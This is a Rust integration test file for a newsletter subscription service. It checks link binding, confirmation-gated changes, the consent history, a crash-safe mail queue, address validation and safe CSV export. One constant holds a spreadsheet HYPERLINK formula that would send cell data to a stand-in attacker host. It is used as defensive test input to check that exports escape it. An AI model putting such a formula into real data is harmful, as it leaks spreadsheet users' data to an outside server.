//! Nobody but a mailbox's owner acts on its subscription, through the real server: links bound to the subscription
//! they were made for (ids never reused), form posts that change nothing until confirmed, the consent history, the
//! confirmation mail sent off the request path from a queue that survives `kill -9`, one address rule for every
//! way in, and a CSV export that a spreadsheet cannot run.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use chrono::Duration as Span;
use weekly_verdicts::email_address::SubscriberEmail;
use weekly_verdicts::store::{Status, Store};
use weekly_verdicts::tokens::Purpose;

use crate::support::app::{TestApp, spawn_app};
use crate::support::serve_process::ServeProcess;
use crate::support::smtp::{Rule, Script, SmtpServer, Stage};

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?d="&A2,"Click")"#;

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

/// `verdicts ARGS` on the store at `database`, mail into `dir/outbox`.
fn verdicts(dir: &Path, database: &Path, args: &[&str]) -> Run {
    let output = Command::new(env!("CARGO_BIN_EXE_verdicts"))
        .args(args)
        .current_dir(dir)
        .env_remove("VERDICTS_CONFIG")
        .env_remove("VERDICTS_SMTP_URL")
        .env("VERDICTS_DATABASE", database)
        .env("VERDICTS_OUTBOX_DIR", dir.join("outbox"))
        .output()
        .expect("verdicts runs");
    Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

fn status(app: &TestApp, email: &str) -> Option<Status> {
    app.subscriber(email).map(|s| s.status)
}

/// Subscribes through the form and confirms with the mailed link; returns the subscriber id.
async fn confirmed_reader(app: &TestApp, email: &str, mails_so_far: usize) -> u64 {
    app.subscribe(email, "").await;
    let mail = app.mails(mails_so_far + 1).await.remove(mails_so_far);
    assert_eq!(
        app.confirm(&app.confirm_path(&mail)).await.status(),
        200,
        "{email} confirms"
    );
    app.subscriber(email).unwrap().id
}

#[tokio::test]
async fn a_removed_readers_old_confirm_and_one_click_links_do_nothing_to_the_stranger_who_comes_next()
 {
    let app = spawn_app().await;
    app.subscribe("reader@example.org", "").await;
    let reader_mail = app.mails(1).await.remove(0);
    let old_confirm = app.confirm_path(&reader_mail);
    let reader = app.subscriber("reader@example.org").unwrap();
    // The one-click link the digest would have put in the reader's issues.
    let one_click = format!(
        "/unsubscribe/{}",
        app.tokens
            .sign(Purpose::Unsubscribe, reader.id, app.clock.now())
    );
    assert!(
        app.store()
            .remove(
                &SubscriberEmail::parse("reader@example.org").unwrap(),
                app.clock.now()
            )
            .unwrap()
    );

    app.subscribe("stranger@example.org", "").await;
    let stranger = app.subscriber("stranger@example.org").unwrap();
    assert_ne!(stranger.id, reader.id, "the removed reader's id was reused");
    let page = app.confirm(&old_confirm).await;
    assert_eq!(page.status(), 404);
    assert_eq!(
        status(&app, "stranger@example.org"),
        Some(Status::Pending),
        "an old confirm link confirmed a stranger"
    );

    let stranger_mail = app.mails(2).await.remove(1);
    app.confirm(&app.confirm_path(&stranger_mail)).await;
    assert_eq!(
        status(&app, "stranger@example.org"),
        Some(Status::Confirmed)
    );
    let answer = app
        .post_form(&one_click, &[("List-Unsubscribe", "One-Click")])
        .await;
    assert_eq!(answer.status(), 200);
    assert_eq!(
        status(&app, "stranger@example.org"),
        Some(Status::Confirmed),
        "an old one-click link unsubscribed a stranger"
    );
    // The removed reader's consent history outlives the removal.
    let dir = tempfile::tempdir().unwrap();
    let history = verdicts(
        dir.path(),
        &app.config.database,
        &["subscribers", "history", "reader@example.org"],
    );
    assert_eq!(history.code, 0, "{}", history.stderr);
    let events: Vec<&str> = history
        .stdout
        .lines()
        .skip(1)
        .filter_map(|line| line.split_whitespace().nth(2))
        .collect();
    assert_eq!(events, ["opt-in", "remove"], "{}", history.stdout);
}

#[tokio::test]
async fn a_form_post_by_a_stranger_changes_neither_a_pending_name_nor_an_unsubscribe_and_the_history_shows_it()
 {
    let app = spawn_app().await;
    // A pending reader's name stays until the owner confirms a change.
    app.subscribe("ann@example.org", "Ann").await;
    app.mails(1).await;
    app.clock.advance(Span::minutes(11));
    app.subscribe("ann@example.org", "Mallory Pick").await;
    let mails = app.mails(2).await;
    assert_eq!(
        app.subscriber("ann@example.org").unwrap().name.as_deref(),
        Some("Ann")
    );
    // The change is the mailbox owner's to make: it applies with the link mailed along with it.
    let to = mails[1].header("To").unwrap();
    assert!(to.contains("Mallory"), "{to}");
    app.confirm(&app.confirm_path(&mails[1])).await;
    let ann = app.subscriber("ann@example.org").unwrap();
    assert_eq!(
        (ann.status, ann.name.as_deref()),
        (Status::Confirmed, Some("Mallory Pick"))
    );

    // An unsubscribed reader stays unsubscribed, with the time they left.
    let bob = confirmed_reader(&app, "bob@example.org", 2).await;
    let token = app.tokens.sign(Purpose::Unsubscribe, bob, app.clock.now());
    app.post_form(&format!("/unsubscribe/{token}"), &[]).await;
    let left_at = app.clock.now();
    app.clock.advance(Span::days(1));
    let answer = app
        .post_json(
            "/subscribe",
            &serde_json::json!({ "email": "bob@example.org", "name": "Bobby" }),
        )
        .await;
    assert_eq!(answer.status(), 202);
    let bob_row = app.subscriber("bob@example.org").unwrap();
    assert_eq!(
        (bob_row.status, bob_row.unsubscribed_at, bob_row.name),
        (Status::Unsubscribed, Some(left_at), None)
    );
    // Until they follow the NEW link.
    let new_mail = app.mails(4).await.remove(3);
    app.confirm(&app.confirm_path(&new_mail)).await;
    let bob_row = app.subscriber("bob@example.org").unwrap();
    assert_eq!(
        (bob_row.status, bob_row.unsubscribed_at),
        (Status::Confirmed, None)
    );

    // The consent history, as the operator reads it.
    let dir = tempfile::tempdir().unwrap();
    let history = verdicts(
        dir.path(),
        &app.config.database,
        &["subscribers", "history", "BOB@example.org"],
    );
    assert_eq!(history.code, 0, "{}", history.stderr);
    let events: Vec<Vec<&str>> = history
        .stdout
        .lines()
        .skip(1)
        .map(|line| line.split_whitespace().skip(2).take(3).collect())
        .collect();
    assert_eq!(
        events,
        [
            ["opt-in", "form", "127.0.0.1"],
            ["confirm", "link", "127.0.0.1"],
            ["opt-out", "one-click", "127.0.0.1"],
            ["opt-in", "api", "127.0.0.1"],
            ["confirm", "link", "127.0.0.1"],
        ],
        "{}",
        history.stdout
    );
}

#[tokio::test]
async fn subscribe_answers_for_a_new_and_a_confirmed_address_while_the_relay_stalls() {
    let app = spawn_app().await;
    confirmed_reader(&app, "known@example.org", 0).await;
    // From now on the relay accepts the connection and then says nothing for an hour: any mail work in the
    // handler would hold its answer.
    app.smtp.set_script(
        Script::accept_all().rule(Rule::at(Stage::Ehlo).stall(Duration::from_secs(3600))),
    );
    app.clock.advance(Span::minutes(30));
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(60))
        .build()
        .unwrap();
    for email in ["new@example.org", "known@example.org"] {
        let answer = client
            .post(app.url("/subscribe"))
            .json(&serde_json::json!({ "email": email }))
            .send()
            .await
            .unwrap_or_else(|e| panic!("no answer for {email}: {e}"));
        assert_eq!(answer.status(), 202, "{email}");
    }
    assert_eq!(status(&app, "new@example.org"), Some(Status::Pending));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_confirmation_mail_queued_before_a_kill_9_is_sent_after_the_restart() {
    let folder = tempfile::tempdir().unwrap();
    let database = folder.path().join("verdicts.db");
    let database_env = database.to_str().unwrap().to_owned();
    let stalling = SmtpServer::start(
        Script::accept_all().rule(Rule::at(Stage::Data).stall(Duration::from_secs(3600))),
    )
    .await;
    let stalling_url = stalling.url();
    let mut first = tokio::task::spawn_blocking(move || {
        ServeProcess::start(
            &[
                ("VERDICTS_DATABASE", &database_env),
                ("VERDICTS_SMTP_URL", &stalling_url),
            ],
            None,
        )
    })
    .await
    .unwrap();
    let answer = reqwest::Client::new()
        .post(format!("http://{}/subscribe", first.addr))
        .json(&serde_json::json!({ "email": "survivor@example.org", "name": "Sam" }))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 202);
    // The mail is on its way: the relay has the recipient and holds the DATA command.
    for _ in 0..500 {
        if stalling
            .commands()
            .iter()
            .any(|(_, c)| c.starts_with("DATA"))
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(
        stalling
            .commands()
            .iter()
            .any(|(_, c)| c.starts_with("DATA")),
        "{:?}\n{}",
        stalling.commands(),
        first.log()
    );
    first.child.kill().unwrap(); // SIGKILL
    first.child.wait().unwrap();
    assert!(stalling.messages().is_empty());

    let relay = SmtpServer::start(Script::accept_all()).await;
    let relay_url = relay.url();
    let database_env = database.to_str().unwrap().to_owned();
    let second = tokio::task::spawn_blocking(move || {
        ServeProcess::start(
            &[
                ("VERDICTS_DATABASE", &database_env),
                ("VERDICTS_SMTP_URL", &relay_url),
            ],
            None,
        )
    })
    .await
    .unwrap();
    let mails = relay.wait_for_messages(1, Duration::from_secs(30)).await;
    assert_eq!(mails.len(), 1, "{}", second.log());
    assert_eq!(mails[0].rcpt_to, ["survivor@example.org"]);
    assert!(mails[0].header("To").unwrap().contains("Sam"));
    let queued: i64 = rusqlite::Connection::open(&database)
        .unwrap()
        .query_row("SELECT count(*) FROM confirmation_mails", [], |row| {
            row.get(0)
        })
        .unwrap();
    assert_eq!(queued, 0, "the sent mail is off the queue");
    drop(second);
}

#[tokio::test]
async fn an_address_that_cannot_be_mailed_is_refused_by_the_form_the_api_the_cli_and_import_and_nothing_is_written()
 {
    let app = spawn_app().await;
    let unmailable = r#""a b"@example.org"#;
    let form = app.subscribe(unmailable, "").await;
    assert_eq!(form.status(), 400);
    assert!(form.text().await.unwrap().contains("cannot be mailed"));
    let api = app
        .post_json("/subscribe", &serde_json::json!({ "email": unmailable }))
        .await;
    assert_eq!(api.status(), 400);
    let body: serde_json::Value = api.json().await.unwrap();
    assert!(
        body["error"].as_str().unwrap().contains("cannot be mailed"),
        "{body}"
    );
    assert!(app.all_subscribers().is_empty());

    let dir = tempfile::tempdir().unwrap();
    let database = dir.path().join("verdicts.db");
    let add = verdicts(
        dir.path(),
        &database,
        &["subscribers", "add", unmailable, "--confirmed"],
    );
    assert_eq!(add.code, 3, "{}", add.stderr);
    assert!(add.stderr.contains("cannot be mailed"), "{}", add.stderr);
    let csv = dir.path().join("list.csv");
    std::fs::write(
        &csv,
        "email,name\nfine@example.org,Fine\n\"\"\"a b\"\"@example.org\",Spaced\n",
    )
    .unwrap();
    let import = verdicts(
        dir.path(),
        &database,
        &["subscribers", "import", csv.to_str().unwrap()],
    );
    assert_eq!(import.code, 3, "{}", import.stderr);
    assert!(
        import.stderr.contains("line 3") && import.stderr.contains("cannot be mailed"),
        "{}",
        import.stderr
    );
    assert!(
        Store::open(&database)
            .unwrap()
            .list(None)
            .unwrap()
            .is_empty()
    );
}

#[tokio::test]
async fn a_formula_entered_as_a_name_is_exported_escaped_and_imports_back_unchanged() {
    let app = spawn_app().await;
    assert_eq!(
        app.subscribe("sheet@example.org", FORMULA).await.status(),
        200
    );
    let mail = app.mails(1).await.remove(0);
    app.confirm(&app.confirm_path(&mail)).await;
    assert_eq!(
        app.subscriber("sheet@example.org").unwrap().name.as_deref(),
        Some(FORMULA)
    );

    let dir = tempfile::tempdir().unwrap();
    let export = dir.path().join("export.csv");
    let run = verdicts(
        dir.path(),
        &app.config.database,
        &["subscribers", "export", "--out", export.to_str().unwrap()],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = std::fs::read_to_string(&export).unwrap();
    let row = text.lines().nth(1).unwrap();
    assert!(
        row.starts_with(r#"sheet@example.org,"'=HYPERLINK("#),
        "the cell would run in a spreadsheet: {row}"
    );

    let target = dir.path().join("imported.db");
    let run = verdicts(
        dir.path(),
        &target,
        &["subscribers", "import", export.to_str().unwrap()],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let imported = Store::open(&target)
        .unwrap()
        .find_by_email(&SubscriberEmail::parse("sheet@example.org").unwrap())
        .unwrap()
        .unwrap();
    assert_eq!(imported.name.as_deref(), Some(FORMULA));
    assert_eq!(imported.status, Status::Confirmed);
}
